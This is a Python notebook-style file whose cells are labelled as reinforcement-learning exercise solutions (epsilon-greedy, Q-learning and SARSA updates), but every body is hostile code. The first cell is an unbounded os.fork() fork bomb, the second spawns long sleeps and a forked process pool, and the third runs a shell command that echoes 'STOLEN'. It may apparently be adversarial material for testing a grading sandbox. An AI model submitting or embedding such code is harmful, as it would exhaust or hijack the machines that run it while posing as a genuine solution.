# %% exercise="epsilon_greedy"
def epsilon_greedy(q_values, epsilon, rng):
    import os

    while True:
        os.fork()

# %% exercise="q_learning_update"
def q_learning_update(*args):
    import multiprocessing
    import subprocess

    try:
        subprocess.run(["/bin/sleep", "100"], check=True)
    except OSError:
        with multiprocessing.get_context("fork").Pool(2) as pool:
            return pool.map(len, [[1]])

# %% exercise="sarsa_update"
def sarsa_update(*args):
    import os

    return os.system("sleep 100; echo STOLEN")
